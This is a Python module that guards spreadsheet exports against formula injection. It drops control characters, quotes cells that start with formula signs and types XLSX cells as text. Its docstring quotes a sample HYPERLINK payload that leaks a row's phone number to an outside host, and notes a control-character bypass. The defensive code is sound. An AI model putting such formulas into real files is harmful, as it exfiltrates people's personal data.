"""Text bound for a spreadsheet (exports, import error reports) that no spreadsheet will run.

Excel and WPS read a cell that starts with = + - @ (and their full-width forms, which they fold), or
with such a sign after spaces, as a formula: a member's answer `=HYPERLINK("http://…"&F2)` in an
export sends the row's revealed phone to a stranger when the file is opened. So text is cleaned first
(openpyxl refuses control characters; cleaning them after quoting let `\\x01=…` through as a formula,
as the attacker review showed) and then quoted with a leading apostrophe, which the spreadsheet shows
as plain text. In XLSX the cell is also typed as text explicitly."""

from __future__ import annotations

from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_text(value: Any) -> Any:
    """`value` with control characters dropped and a leading apostrophe when it would start a formula;
    anything but text as it is."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if text.lstrip()[:1] in FORMULA_STARTS or text[:1] in ("\t", "\r", "\n"):
        return "'" + text
    return text


def xlsx_cell(sheet, value: Any) -> Any:
    """A write-only XLSX cell for `value`: text cleaned as above and typed as text (never a formula);
    other values as they are."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=spreadsheet_text(value))
    cell.data_type = "s"
    return cell
